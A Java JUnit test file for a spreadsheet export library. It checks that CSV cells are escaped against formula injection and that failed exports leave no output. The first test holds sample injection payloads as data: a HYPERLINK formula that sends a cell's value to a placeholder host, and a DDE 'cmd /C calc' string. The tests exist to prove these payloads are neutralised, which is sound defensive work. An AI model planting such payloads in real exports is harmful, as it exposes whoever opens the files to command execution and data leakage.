package io.capconduit.reports;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class SheetWriterTests {

    @Test
    void textASpreadsheetWouldRunAsAFormulaIsNeutralisedButNumbersAndPhonesAreNot() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (CsvSheetWriter csv = new CsvSheetWriter(bytes)) {
            csv.startSheet("Calls", List.of());
            csv.row("=1+1", "@SUM(A1)", "+HYPERLINK(\"http://x/?\"&A2,\"open\")", "-2+3+cmd|' /C calc'!A0", "\tx",
                    "+18005550101", "-5", "+1 (800) 555-0101", "plain", 42);
        }
        String line = bytes.toString(StandardCharsets.UTF_8).split("\r\n")[1];

        assertThat(line).isEqualTo("'=1+1,'@SUM(A1),\"'+HYPERLINK(\"\"http://x/?\"\"&A2,\"\"open\"\")\","
                + "'-2+3+cmd|' /C calc'!A0,'\tx,+18005550101,-5,+1 (800) 555-0101,plain,42");
    }

    /** A failure midway leaves no file that looks whole: an xlsx is never written, a csv gets nothing more. */
    @Test
    void anExportThatFailsMidwayIsAbandonedNotCompleted() throws Exception {
        List<Column> columns = List.of(new Column("Call", Column.Type.TEXT, 10));
        for (boolean xlsx : new boolean[] {true, false}) {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            SheetWriter writer = xlsx ? new XlsxSheetWriter(bytes) : new CsvSheetWriter(bytes);

            assertThatThrownBy(() -> SheetWriter.export(writer, out -> {
                out.startSheet("Calls", columns);
                out.row("first");
                out.row("second");
                throw new IllegalStateException("the database went away");
            })).hasMessage("the database went away");

            assertThat(bytes.size()).as(xlsx ? "xlsx" : "csv").isZero();
        }
    }

    @Test
    void anExportThatSucceedsIsCompleted() throws Exception {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        SheetWriter.export(new CsvSheetWriter(bytes), out -> {
            out.startSheet("Calls", List.of(new Column("Call", Column.Type.TEXT, 10)));
            out.row("first");
        });
        assertThat(bytes.toString(StandardCharsets.UTF_8)).isEqualTo("Call\r\nfirst\r\n");
    }
}
